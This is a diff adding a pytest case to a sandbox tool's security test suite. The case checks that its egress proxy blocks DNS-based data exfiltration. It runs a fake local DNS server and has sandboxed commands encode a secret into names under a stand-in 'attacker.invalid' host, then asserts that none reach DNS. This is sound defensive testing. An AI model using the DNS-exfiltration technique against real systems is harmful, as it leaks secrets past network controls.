@@ -1077,6 +1077,71 @@ def test_audit_stream_net_flood(brig, netscript):
     assert json.loads(report.read_text())["controls"]["egress"]["denied"] == attempts
 
 
+DNS_SERVER = r"""
+import socket, sys
+log = open(sys.argv[1], "a", buffering=1)
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.bind(("127.0.0.1", 53))
+print("ready", flush=True)
+while True:
+    q, peer = s.recvfrom(512)
+    i, labels = 12, []
+    while i < len(q) and q[i]:
+        labels.append(q[i + 1:i + 1 + q[i]].decode(errors="replace"))
+        i += 1 + q[i]
+    log.write(".".join(labels) + "\n")
+    # NXDOMAIN, the question echoed: the resolver gives up at once.
+    s.sendto(q[:2] + b"\x81\x83" + q[4:6] + b"\x00\x00\x00\x00\x00\x00" + q[12:i + 5], peer)
+"""
+
+
+@attack("dns-exfiltration", "exfiltrate data in DNS names the host resolves on the sandbox's behalf",
+        "the proxy judges a name before any DNS query; no DNS from inside (own netns)")
+def test_dns_exfiltration_through_the_proxy(brig, netscript):
+    if not IS_ROOT:
+        pytest.skip("DNS EXFILTRATION NOT TESTED: building the test's network namespace needs root")
+    ns = "brig-esc-" + uuid.uuid4().hex[:8]
+    log = brig.base / "dns.log"
+    log.touch()
+    resolv = brig.base / "resolv.conf"
+    resolv.write_text("nameserver 127.0.0.1\noptions attempts:1 timeout:2\n")
+    resolv.chmod(0o644)
+    subprocess.run(["ip", "netns", "add", ns], check=True)
+    server = None
+    try:
+        subprocess.run(["ip", "-n", ns, "link", "set", "lo", "up"], check=True)
+        server = subprocess.Popen(["nsenter", f"--net=/run/netns/{ns}", "/usr/bin/python3", "-c", DNS_SERVER,
+                                   str(log)], stdout=subprocess.PIPE, text=True)
+        assert server.stdout.readline().strip() == "ready"
+        secret = uuid.uuid4().hex[:16]
+        # brig (the proxy's resolver) in the namespace, with the test's
+        # nameserver in a private mount namespace's /etc/resolv.conf.
+        wrap = ["nsenter", f"--net=/run/netns/{ns}", "unshare", "--mount", "--propagation", "private", "sh", "-c",
+                f'mount --bind {resolv} /etc/resolv.conf && exec "$@"', "sh"]
+        lines = [f"proxy-connect exfil-{secret}.attacker.invalid 443",
+                 f"proxy-get http://exfil2-{secret}.attacker.invalid/",
+                 f"socks exfil3-{secret}.attacker.invalid 80",
+                 f"resolve exfil4-{secret}.attacker.invalid",
+                 f"proxy-connect ctl-{secret}.allowed.invalid 443"]
+        body = "; ".join(f"python3 /net.py {l}" for l in lines)
+        cp = subprocess.run(wrap + brig.cmd("run", "--allow-host", "*.allowed.invalid", "--ro-bind",
+                                            f"{netscript}:/net.py", "--", "sh", "-c", body),
+                            cwd=brig.workspace, env=brig.env(), capture_output=True, text=True, timeout=120)
+        assert answers(cp, "connect_status")[0] == "403" and answers(cp, "get_status") == ["403"], cp
+        assert answers(cp, "socks_reply") == ["2"], cp
+        assert answers(cp, "resolve")[0].startswith("EAI"), cp
+        seen = log.read_text()
+        # Control: a name the policy allows is resolved, by the test's server.
+        assert f"ctl-{secret}.allowed.invalid" in seen, f"control: the proxy never asked the test's nameserver: {cp} {seen!r}"
+        leaked = [l for l in seen.splitlines() if "exfil" in l]
+        assert leaked == [], f"ATTACK WORKED: refused names reached DNS: {leaked}"
+    finally:
+        if server:
+            server.kill()
+            server.wait()
+        subprocess.run(["ip", "netns", "del", ns])
+
+
 @attack("proxy-conn-flood", "exhaust the proxy's connection table and descriptors (thousands of connections)",
         "connection cap and paused accept on EMFILE; one proxy per run")
 def test_proxy_connection_flood(brig, netscript, upstream):
